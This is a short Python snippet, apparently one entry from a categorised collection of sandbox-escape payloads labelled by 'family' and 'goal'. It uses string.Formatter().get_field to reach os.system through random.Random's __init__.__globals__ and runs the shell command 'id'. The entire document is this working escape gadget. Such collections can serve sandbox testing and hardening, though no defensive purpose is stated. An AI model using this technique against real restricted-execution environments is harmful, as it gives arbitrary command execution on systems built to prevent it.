# family: I   goal: id
import string, random
system, _ = string.Formatter().get_field("0.__init__.__globals__[_os].system",
                                        (random.Random(),), {})
system("id")
